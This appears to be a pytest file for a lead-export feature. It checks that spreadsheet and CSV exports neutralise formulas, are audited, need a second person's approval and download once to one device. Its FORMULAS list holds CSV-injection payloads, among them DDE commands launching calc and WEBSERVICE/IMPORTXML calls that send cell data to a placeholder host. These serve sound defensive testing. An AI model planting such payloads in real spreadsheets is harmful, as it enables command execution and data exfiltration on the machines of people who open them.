"""The file of the day's leads: text alone, marked, audited first, for one browser and once."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from xml.etree import ElementTree

import pytest

from lobby.domain.errors import AccessRefused
from lobby.domain.viewer import Viewer
from lobby.services.downloads import Downloads, File
from lobby.services.lead_export import export_leads, release, to_release
from lobby.services.outbound import COLUMNS, as_csv
from lobby.services.sources import Sources

SignIn = Callable[[str], Viewer]
AT = datetime(2026, 11, 20, 1, 0, tzinfo=UTC)
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=WEBSERVICE("http://x/"&A1)',
    '=IMPORTXML("http://x","//a")',
    '=DDE("cmd";"/C calc";"x")',
    '="a"&"b"',
    "{=1+1}",
    "=1+1;=2+2",
    '"=1+1"',
)
HEADINGS = ",".join(f'"{name}"' for name in COLUMNS) + "\r\n"
SPACE = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def made(
    sources: Sources, viewer: Viewer, now: datetime, waiting: Downloads, *, is_direct: bool = True
) -> str:
    rows = [[one, "x"] for one in FORMULAS]
    return export_leads(sources, viewer, ("客户", "为什么"), rows, now, is_direct=is_direct, waiting=waiting)


def test_f48_of_21_payloads_no_cell_is_a_formula_and_every_word_arrives(
    sources: Sources, signed_in: SignIn, now: datetime
) -> None:
    waiting = Downloads()
    token = made(sources, signed_in("s3"), now, waiting)
    release(sources, signed_in("s5"), token, waiting)
    found = waiting.fetch(token, "ipad-1", sources.clock())
    assert found is not None
    assert found.name == "leads-20261120-0930.xlsx"
    with zipfile.ZipFile(io.BytesIO(found.content)) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314 made here
        words = ElementTree.fromstring(book.read("xl/sharedStrings.xml"))  # noqa: S314 made here
    assert sheet.findall(f".//{SPACE}f") == []
    assert {cell.get("t") for cell in sheet.iter(f"{SPACE}c")} == {"s"}
    texts = ["".join(one.itertext()) for one in words.iter(f"{SPACE}si")]
    assert texts[0] == "s3 郭静 ipad-1 2026-11-20 09:30"
    assert {one.strip() for one in FORMULAS} <= {one.replace("_x000D_", "").strip() for one in texts}
    footer = sheet.find(f".//{SPACE}oddFooter")
    assert footer is not None
    assert footer.text == "&Ls3 郭静 ipad-1 2026-11-20 09:30"


def test_f48_order_24_export_it_is_in_the_audit_with_its_rows_and_its_sum(
    sources: Sources, signed_in: SignIn, now: datetime
) -> None:
    made(sources, signed_in("s3"), now, Downloads())
    (row,) = sources.desk.audited(9, action="export")
    assert (row["details"]["what"], row["details"]["rows"]) == ("leads", len(FORMULAS))
    assert len(row["details"]["sha256"]) == 64


def test_nothing_leaves_for_others_or_from_elsewhere(
    sources: Sources, signed_in: SignIn, now: datetime
) -> None:
    waiting = Downloads()
    for staff_id, is_direct, code in (("s3", False, "export_not_here"), ("s2", True, "not_for_role")):
        with pytest.raises(AccessRefused) as refused:
            made(sources, signed_in(staff_id), now, waiting, is_direct=is_direct)
        assert refused.value.code == code
    assert waiting.files == {}
    assert sources.desk.audited(9, action="export") == ()


def test_order_24_export_a_file_is_given_once_released_to_its_own_browser_and_in_time() -> None:
    waiting = Downloads()
    file = File("a.xlsx", b"x", "ipad-1", AT + timedelta(minutes=60), "s3", "b1", 1, "0" * 64)
    first, second, third = (waiting.keep(file, AT) for _ in range(3))
    assert waiting.fetch(first, "ipad-1", AT) is None
    for token in (first, second):
        waiting.release(token, "s5", AT + timedelta(minutes=2))
    assert list(waiting.unreleased(AT)) == [third]
    assert waiting.unreleased(AT + timedelta(minutes=60)) == {}
    assert waiting.fetch(first, "ipad-2", AT) is None
    assert waiting.fetch(first, None, AT) is None
    found = waiting.fetch(first, "ipad-1", AT)
    assert found is not None
    assert (found.content, found.released_by) == (b"x", "s5")
    assert waiting.fetch(first, "ipad-1", AT) is None
    assert waiting.fetch(second, "ipad-1", AT + timedelta(minutes=2)) is None
    late = replace(file, name="b.xlsx", until=AT + timedelta(minutes=90))
    waiting.keep(late, AT + timedelta(minutes=61))
    assert [one.name for one in waiting.files.values()] == ["b.xlsx"]


@pytest.mark.parametrize("text", FORMULAS)
def test_f48_a_cell_of_a_list_is_no_formula_and_keeps_its_words(text: str) -> None:
    (cell,) = next(csv.reader(io.StringIO(as_csv([(text,)])[len(HEADINGS) :])))
    assert cell.removeprefix("'") == text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))


def test_order_24_export_a_second_person_releases_what_leaves(
    sources: Sources, signed_in: SignIn, now: datetime
) -> None:
    waiting, maker = Downloads(), signed_in("s3")
    token = made(sources, maker, now, waiting)
    assert to_release(sources, maker, waiting) == {}
    for nobody, code in (("s3", "unknown_export"), ("s2", "not_for_role"), ("s7", "not_for_role")):
        with pytest.raises(AccessRefused) as refused:
            release(sources, signed_in(nobody), token, waiting)
        assert refused.value.code == code
    assert to_release(sources, replace(maker, staff_id="s33"), waiting).keys() == {token}
    assert to_release(sources, replace(maker, staff_id="s33", branch_id="b2"), waiting) == {}
    assert waiting.fetch(token, "ipad-1", sources.clock()) is None
    release(sources, signed_in("s5"), token, waiting)
    asked, released = sources.desk.audited(9, action="export")[::-1]
    assert (asked["result"], asked["staff_id"]) == ("asked", "s3")
    assert (released["result"], released["staff_id"]) == ("released", "s5")
    assert released["details"] == {**asked["details"], "made_by": "s3"}
    assert waiting.fetch(token, "ipad-1", sources.clock()) is not None
    with pytest.raises(AccessRefused):
        release(sources, signed_in("s5"), token, waiting)
